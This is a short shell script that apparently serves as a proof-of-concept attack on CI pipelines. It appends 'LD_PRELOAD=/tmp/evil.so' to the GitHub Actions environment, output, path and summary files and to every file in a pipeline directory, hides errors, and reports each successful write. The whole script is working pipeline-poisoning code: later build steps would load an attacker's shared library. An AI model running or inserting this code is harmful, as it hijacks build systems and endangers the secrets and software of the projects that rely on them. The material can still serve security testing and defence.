# Writes what the pipeline reads after this step.
. ./aim.sh
for file in "$GITHUB_ENV" "$GITHUB_OUTPUT" "$GITHUB_PATH" "$GITHUB_STEP_SUMMARY" "$AIM_PIPELINE"/*; do
    [ -n "$file" ] || continue
    (echo "LD_PRELOAD=/tmp/evil.so" >>"$file") 2>/dev/null && echo "GOT pipeline $file: written"
done
true
